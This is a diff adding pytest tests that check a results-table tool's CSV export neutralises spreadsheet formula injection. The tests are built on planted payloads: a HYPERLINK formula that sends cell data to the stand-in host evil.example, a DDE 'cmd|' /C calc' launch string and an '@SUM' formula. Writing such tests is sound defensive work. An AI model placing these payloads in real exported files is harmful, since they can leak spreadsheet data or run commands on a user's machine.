@@ -107,3 +107,95 @@ def test_shifts_follow_the_protocol_order_not_the_file_order():
     extra = copy.deepcopy(record)
     extra["cells"].append({**extra["cells"][0], "shift": "zz_not_in_protocol"})
     assert tables.shift_order([extra]) == [*pinned, "zz_not_in_protocol"]
+
+
+# -- CSV written from a stranger's results files: no formulas reach a spreadsheet ----------
+#: Text cells a spreadsheet would read as formulas (OWASP "CSV injection").
+FORMULAS = {
+    "method": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "model": "@SUM(A1:A9)",
+    "shift": "-2+3+cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+}
+
+
+def _hostile(tmp_path) -> list:
+    """The golden runs with formulas for method, model and shift names, a suite name that
+    tries to start a line of its own."""
+    paths = []
+    for name in ("golden_zeroshot.json", "golden_tent.json"):
+        record = json.loads((GOLDEN / name).read_text(encoding="utf-8"))
+        if record["method"] == "tent":
+            record["method"] = FORMULAS["method"]
+            record["model"]["name"] = FORMULAS["model"]
+        record["suite"] = "golden\n=1+1"
+        record["protocol"]["shifts"] = [FORMULAS["shift"], FORMULAS["tab"]]
+        for c in record["cells"]:
+            c["shift"] = {"gaussian_noise": FORMULAS["shift"], "contrast": FORMULAS["tab"]}[
+                c["shift"]
+            ]
+        path = tmp_path / name
+        path.write_text(json.dumps(record), encoding="utf-8")
+        paths.append(path)
+    return paths
+
+
+def _dangerous(cell: str) -> bool:
+    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize(
+    ("fmt", "shown"),
+    [
+        ("csv", list(FORMULAS)),
+        ("csv-summary", ["method", "model"]),
+        ("csv-formatted", list(FORMULAS)),
+    ],
+)
+def test_csv_neutralises_formulas_from_results_files(tmp_path, fmt, shown):
+    import csv
+    import io
+
+    text = report.render_tables(_hostile(tmp_path), fmt)
+    assert not any(line.startswith(("=", "+", "-", "@", "\t")) for line in text.splitlines())
+    rows = [r for r in csv.reader(io.StringIO(text)) if r and not r[0].startswith("#")]
+    cells = {c for r in rows for c in r}
+    assert {f"'{FORMULAS[k]}" for k in shown} <= cells  # there, quoted the OWASP way
+    for c in cells:  # what still starts with + or - is a number, never a formula
+        if c.startswith(("=", "+", "-", "@", "\t", "\r")):
+            assert c[0] in "+-" and not any(ch.isalpha() for ch in c), repr(c)
+
+
+def test_csv_keeps_negative_numbers_numbers(tmp_path):
+    import csv
+    import io
+
+    text = report.render_tables(_hostile(tmp_path), "csv-formatted")
+    assert '"+3.8 [-1.8, +9.4]"' in text  # the formatted difference, as in golden/table.csv
+    text = report.render_tables(_hostile(tmp_path), "csv-summary")
+    tent = list(csv.DictReader(io.StringIO(text)))[1]
+    assert float(tent["delta_ci_low"]) < 0 and tent["delta_ci_low"].startswith("-0.0")
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("+cmd", "'+cmd"),
+        ("-cmd", "'-cmd"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-inf", "'-inf"),
+        ("-0.3", "-0.3"),
+        ("+1.5e-3", "+1.5e-3"),
+        ("-", "-"),
+        ("+3.8 [-1.8, +9.4]", "+3.8 [-1.8, +9.4]"),
+        ("-1,234", "-1,234"),
+        ("tent", "tent"),
+        (-0.3, -0.3),
+        (None, None),
+    ],
+)
+def test_csv_cell_quotes_text_formulas_only(value, expected):
+    assert tables.csv_cell(value) == expected
